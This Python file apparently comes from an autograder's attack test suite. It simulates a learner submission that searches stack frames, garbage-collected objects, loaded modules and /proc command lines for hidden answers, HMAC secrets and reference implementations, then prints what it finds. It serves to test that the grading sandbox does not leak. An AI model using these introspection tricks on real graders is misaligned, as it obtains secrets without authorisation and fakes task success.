"""(b) Walk everything reachable from learner code: the caller's frames (sys._getframe chains and their
locals), gc.get_objects(), every module in sys.modules and every function in them, importable grader
modules, and strings of source code in memory that are not this notebook's or the release's. Whatever
looks like an answer, the secret, hidden points or a correct implementation is printed into the
attacker's own feedback."""

from tests.attacks._common import prelude

ASSIGNMENT = "regression"
GOAL = "Find correct implementations, the secret or hidden expected values by walking frames, gc objects and modules; print them."
WITH_SOLUTION = False

CODE = prelude(ASSIGNMENT) + r'''
import gc as _rt_gc, re as _rt_re, inspect as _rt_inspect, importlib as _rt_importlib, json as _rt_json, dis as _rt_dis
import numpy as _rt_np

_RT_WORDS = _rt_re.compile(r"secret|seed|hmac|key|expect|answer|solution|oracle|stand|right|correct|truth|reference|"
                           r"hidden|points|grade|score|judge|mistake", _rt_re.I)


def _rt_public_text():
    # what this learner may see anyway: its notebook (beside it) and the release cells (the zygote's command line)
    text = ""
    for name in _rt_os.listdir("."):
        if name.endswith(".ipynb"):
            try:
                nb = _rt_json.load(open(name))
                text += "\n".join("".join(c.get("source", "")) for c in nb.get("cells", []))
            except BaseException:
                pass
    for pid in _rt_os.listdir("/proc"):
        if pid.isdigit():
            try:
                text += open(f"/proc/{pid}/cmdline", "rb").read().decode("utf8", "replace").replace("\\n", "\n")
            except OSError:
                pass
    return text


_RT_PUBLIC = _rt_public_text()


def _rt_frames(tag):
    f = _rt_sys._getframe(1)
    depth = 0
    while f is not None and depth < 60:
        code = f.f_code
        _rt_note(f"frame{depth}", code.co_filename.rsplit("/", 1)[-1], code.co_name, sorted(f.f_locals)[:25])
        for k, v in list(f.f_locals.items()):
            if _RT_WORDS.search(str(k)):
                _rt_note("  local", k, "=", repr(v)[:300])
        for k, v in list(f.f_globals.items())[:400]:
            if _RT_WORDS.search(str(k)) and not str(k).startswith("_rt"):
                _rt_note("  global", code.co_filename.rsplit("/", 1)[-1], k, "=", repr(v)[:200])
        f = f.f_back
        depth += 1


def _rt_foreign_code(f):
    fn = f.__code__.co_filename
    return not (fn.startswith("<cell") or "site-packages" in fn or "/lib/python" in fn or fn.startswith("<frozen")
                or "/grader/" in fn)


def _rt_gc_walk(tag):
    funcs, strings, hexes = [], 0, set()
    for obj in _rt_gc.get_objects():
        try:
            if isinstance(obj, type(_rt_gc_walk)) and _rt_foreign_code(obj):
                funcs.append(obj)
            elif isinstance(obj, dict):
                for k, v in list(obj.items())[:200]:
                    if isinstance(v, str) and len(v) > 40:
                        strings += 1
                        if (k != "__doc__" and _rt_re.search(r"^\s*def \w+\(", v, _rt_re.M) and "return" in v
                                and ">>>" not in v and v.strip() not in _RT_PUBLIC and v[:200] not in _RT_PUBLIC):
                            _rt_mark("LEAK", "source-in-memory", f"{k!r}: " + v[:600].replace("\n", " \\n "))
                        if _rt_re.fullmatch(r"[0-9a-f]{64}", v):
                            hexes.add(v)
                    elif isinstance(v, bytes) and _rt_re.fullmatch(rb"[0-9a-f]{64}", v):
                        hexes.add(v.decode())
        except BaseException:
            pass
    for f in funcs[:50]:
        try:
            src = _rt_inspect.getsource(f)
        except BaseException:
            src = "(bytecode) " + " ".join(i.opname for i in _rt_dis.get_instructions(f))[:300]
        if f.__name__ in ("forward", "backward", "update", "train"):
            _rt_mark("LEAK", "foreign-" + f.__name__, f.__code__.co_filename + ": " + src[:800].replace("\n", " \\n "))
        else:
            _rt_note("foreign function", f.__qualname__, f.__code__.co_filename, src[:120].replace("\n", " "))
    _rt_note(tag, "gc:", len(funcs), "foreign functions,", strings, "long strings, 64-hex strings:", sorted(hexes)[:4])


def _rt_modules():
    names = sorted(m for m in _rt_sys.modules if "autograder" in m or "grad" in m or "stand" in m)
    _rt_note("grader modules loaded:", names)
    for m in names:
        mod = _rt_sys.modules[m]
        for k, v in sorted(vars(mod).items())[:300]:
            if _RT_WORDS.search(k) and not callable(v) and not isinstance(v, type(_rt_sys)):
                _rt_note("  ", m, k, "=", repr(v)[:200])
    for name in ("autograder.assignments.common.oracle", "autograder.assignments.common.mistakes",
                 "autograder.engine.judge", "autograder.assignments", "autograder.engine",
                 "autograder.sandboxed.standins", "autograder.sandboxed.standins.regression",
                 "autograder.sandboxed.standins.two_layer", "autograder.assignments.two_layer.reference",
                 "autograder.assignments.common.network", "autograder.tools.course", "autograder.engine.batch"):
        try:
            mod = _rt_importlib.import_module(name)
            _rt_mark("LEAK", "importable-" + name, getattr(mod, "__file__", "?"))
        except BaseException as exc:
            _rt_note("  no", name, type(exc).__name__)


_rt_seen = set()


def _rt_look(name):
    if name in _rt_seen:
        return
    _rt_seen.add(name)
    _rt_frames(name)
    _rt_gc_walk(name)


_rt_modules()
_rt_gc_walk("cell")
_rt_hooks.append(_rt_look)


def forward(x, params):
    raise NotImplementedError("looking around")


def backward(y, y_hat, cache, params):
    raise NotImplementedError("looking around")


def update(params, grads, lr):
    raise NotImplementedError("looking around")


def train(X, y, params, lr, epochs):
    _rt_gc_walk("train")  # the stand-ins are in the namespace now
    for name in ("forward", "backward", "update"):
        f = globals()[name]
        if _rt_foreign_code(getattr(f, "__wrapped__", f)):
            _rt_mark("LEAK", "standin-in-globals-" + name, f.__code__.co_filename)
    raise NotImplementedError("looking around")
'''
